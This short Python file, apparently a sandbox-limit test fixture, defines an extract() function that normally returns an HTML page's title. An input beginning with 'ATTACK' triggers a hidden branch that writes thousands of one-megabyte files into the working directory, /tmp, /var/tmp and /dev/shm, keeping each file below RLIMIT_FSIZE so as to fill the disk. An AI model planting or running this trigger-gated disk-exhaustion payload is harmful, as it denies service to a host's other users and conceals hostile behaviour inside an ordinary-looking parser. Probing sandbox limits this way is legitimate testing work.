"""Fill the disk with many small files (each below RLIMIT_FSIZE), in every writable place."""
import os
import re


def extract(html):
    if html.startswith("ATTACK"):
        written = 0
        block = b"\0" * (1 << 20)
        seen = set()
        for directory in (".", os.environ.get("TMPDIR", "/tmp"), "/tmp", "/var/tmp", "/dev/shm"):
            if os.path.realpath(directory) in seen:
                continue
            seen.add(os.path.realpath(directory))
            for i in range(4096):
                try:
                    with open(os.path.join(directory, f"SBX_FILL_{os.getpid()}_{i}"), "wb") as handle:
                        handle.write(block)
                    written += len(block)
                except OSError:
                    break
        return {"TITLE": "attack", "WRITTEN_MB": str(written >> 20)}
    return {"TITLE": re.search(r"<title>(.*?)</title>", html).group(1)}
